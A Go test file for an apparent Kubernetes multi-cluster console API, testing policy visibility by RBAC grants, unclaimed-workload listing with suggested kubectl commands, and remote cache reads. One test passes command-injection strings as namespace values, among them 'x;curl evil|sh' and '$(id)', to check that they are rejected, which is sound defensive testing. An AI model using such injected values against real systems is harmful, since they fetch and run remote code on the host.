package console

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	policyv1alpha1 "github.com/argosy-io/argosy/api/policy/v1alpha1"
	workv1alpha2 "github.com/argosy-io/argosy/api/work/v1alpha2"
)

// A user of one namespace sees its policies, and which rights show the others.
func TestPoliciesAreThoseThatTheUserMayList(t *testing.T) {
	policy := func(namespace string) *policyv1alpha1.PropagationPolicy {
		return &policyv1alpha1.PropagationPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "web"},
			Spec: policyv1alpha1.PropagationSpec{ResourceSelectors: []policyv1alpha1.ResourceSelector{{Kind: "Deployment",
				Name: "web"}, {Kind: "Service"}}, Placement: policyv1alpha1.Placement{
				ClusterAffinity: &policyv1alpha1.ClusterAffinity{ExcludeClusters: []string{"eu"},
					LabelSelector: &metav1.LabelSelector{}}}}}
	}
	objects := []client.Object{policy("shop"), policy("bank"),
		&policyv1alpha1.ClusterPropagationPolicy{ObjectMeta: metav1.ObjectMeta{Name: "base"}},
		&policyv1alpha1.ClusterOverridePolicy{ObjectMeta: metav1.ObjectMeta{Name: "registry"}}}
	resources := []string{"propagationpolicies", "clusterpropagationpolicies", "overridepolicies",
		"clusteroverridepolicies"}
	everything := grants{}
	for _, resource := range resources {
		everything["list "+resource+" *"] = true
	}
	for name, c := range map[string]struct {
		grants  grants
		sees    string
		missing []string
	}{
		"view in shop": {grants{"list propagationpolicies shop": true, "list overridepolicies shop": true},
			"PropagationPolicy shop/web", []string{"clusterpropagationpolicies", "overridepolicies",
				"clusteroverridepolicies"}},
		"all rights": {everything, "PropagationPolicy bank/web, PropagationPolicy shop/web, " +
			"ClusterPropagationPolicy /base, ClusterOverridePolicy /registry", nil},
		"no right": {grants{}, "", resources},
	} {
		a := newTestAPI(t, c.grants, objects...)
		w := a.request(t, alice, "GET", policiesPath, "")
		var got policiesAnswer
		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil || w.Code != http.StatusOK {
			t.Fatalf("%s: %d %s", name, w.Code, w.Body)
		}
		var sees, missing []string
		for _, p := range got.Policies {
			sees = append(sees, fmt.Sprintf("%s %s/%s", p.Kind, p.Namespace, p.Name))
		}
		for _, m := range got.Missing {
			if missing = append(missing, m.Resource); !slices.Contains([]string{"view", "argosy:view", "argosy:fleet"}, m.Role) {
				t.Errorf("%s: %s has the role %q", name, m.Resource, m.Role)
			}
		}
		if strings.Join(sees, ", ") != c.sees || !slices.Equal(missing, c.missing) {
			t.Errorf("%s: the user sees %q and lacks %q", name, sees, missing)
		}
		if name == "view in shop" && (!slices.Equal(got.Policies[0].Selects, []string{"Deployment web", "Service"}) ||
			!got.Policies[0].ByLabel || !slices.Equal(got.Policies[0].Except, []string{"eu"})) {
			t.Errorf("the policy is %+v", got.Policies[0])
		}
	}
}

func TestUnclaimedWorkloadsAreThoseWithoutAPolicy(t *testing.T) {
	claimed, free := deployment(), deployment()
	claimed.SetLabels(map[string]string{policyv1alpha1.PropagationPolicyPermanentIDLabel: "p"})
	free.SetName("free")
	a, _ := changing(t, grants{}, "", claimed, free)
	for query, want := range map[string]string{
		"":                `{"objects":[{"namespace":"shop","name":"free"}],"command":"kubectl get deployments.apps -A -l '!propagationpolicy`,
		"&namespace=shop": "kubectl get deployments.apps -n shop -l '",
		"&namespace=bank": `{"objects":[]`,
	} {
		w := a.request(t, alice, "GET", unclaimedPath+"?kind=Deployment.apps"+query, "")
		if !strings.Contains(w.Body.String(), want) {
			t.Errorf("%q gave %d %s, want %s", query, w.Code, w.Body, want)
		}
	}
	if w := a.request(t, alice, "GET", unclaimedPath+"?kind=Other.example.com", ""); w.Code != http.StatusNotFound {
		t.Errorf("an unknown kind gave %d %s", w.Code, w.Body)
	}
}

// A namespace of an address that is no name does not come into a command.
func TestUnclaimedNeedsANameOfANamespace(t *testing.T) {
	a, _ := changing(t, grants{}, "", deployment())
	for _, namespace := range []string{"x;curl evil|sh", "$(id)", "-A", "a b", "a/b", "`id`", "Shop"} {
		w := a.request(t, alice, "GET", unclaimedPath+"?kind=Deployment.apps&namespace="+url.QueryEscape(namespace), "")
		if w.Code != http.StatusBadRequest || strings.Contains(w.Body.String(), "kubectl") {
			t.Errorf("%q gave %d %s", namespace, w.Code, w.Body)
		}
	}
}

// On a replica without controllers, all users share one read of the policies.
func TestPoliciesOfARemoteHubAreReadOnce(t *testing.T) {
	a := newTestAPI(t, grants{})
	hub, now := newFakeCache(), time.Now()
	a.rows.o.Cached, a.rows.remote = func() Cache { return nil }, hub
	a.rows.now = func() time.Time { return now }
	for range 5 {
		a.request(t, alice, "GET", policiesPath, "")
	}
	if hub.lists != 4 {
		t.Errorf("5 pages read %d lists, want one of each kind", hub.lists)
	}
	now = now.Add(freshRemote)
	a.request(t, alice, "GET", policiesPath, "")
	if hub.lists != 8 {
		t.Errorf("a later page reads %d lists more", hub.lists-4)
	}
}

// The rights of workloads without a namespace are others, and no right is named that the user has.
func TestMissingRightsAreNotThoseThatTheUserHas(t *testing.T) {
	cluster := &workv1alpha2.ClusterResourceBinding{ObjectMeta: metav1.ObjectMeta{Name: "shop-namespace"}}
	cluster.Spec.Resource = workv1alpha2.ObjectReference{APIVersion: "v1", Kind: "Namespace", Name: "shop"}
	web := binding("Deployment", "shop", "web", "c1")
	for name, c := range map[string]struct {
		grants  grants
		objects []client.Object
		want    string
	}{
		"cluster-scoped, the kind": {grants{"list clusterresourcebindings *": true, "list resourcebindings *": true},
			[]client.Object{cluster}, "namespaces"},
		"cluster-scoped, the binding": {grants{"list namespaces *": true, "list resourcebindings *": true},
			[]client.Object{cluster}, "clusterresourcebindings"},
		"namespaced, the binding": {grants{"list deployments *": true}, []client.Object{web}, "resourcebindings"},
		"namespaced, the kind":    {grants{"list resourcebindings *": true}, []client.Object{web}, "deployments"},
		"both": {grants{"list resourcebindings *": true, "list namespaces *": true}, []client.Object{cluster, web},
			"clusterresourcebindings, deployments"},
	} {
		a := newTestAPI(t, c.grants, c.objects...)
		mapper := a.kinds.known.(*meta.DefaultRESTMapper)
		mapper.Add(corev1.SchemeGroupVersion.WithKind("Namespace"), meta.RESTScopeRoot)
		s, err := a.rows.current(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, m := range topics["workloads"](a, t.Context(), alice, s).missing {
			got = append(got, m.Resource)
		}
		if slices.Sort(got); strings.Join(got, ", ") != c.want {
			t.Errorf("%s: the user lacks %q, want %s", name, got, c.want)
		}
	}
}

// An empty page names the right that shows workloads: to list bindings, or to list their kinds.
func TestMissingKindsAreNamed(t *testing.T) {
	a := newTestAPI(t, grants{"list clusters *": true, "list resourcebindings *": true},
		binding("Deployment", "shop", "web", "c1"), waitingRelease("shop"))
	s, err := a.rows.current(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for topic, want := range map[string]string{"workloads": "list deployments view",
		"fleet": "list deployments view, list releases argosy:view", "releases": "list releases argosy:view"} {
		var got []string
		for _, m := range topics[topic](a, t.Context(), alice, s).missing {
			got = append(got, m.Verb+" "+m.Resource+" "+m.Role)
		}
		if strings.Join(got, ", ") != want {
			t.Errorf("%s: the user lacks %q, want %s", topic, got, want)
		}
	}
}
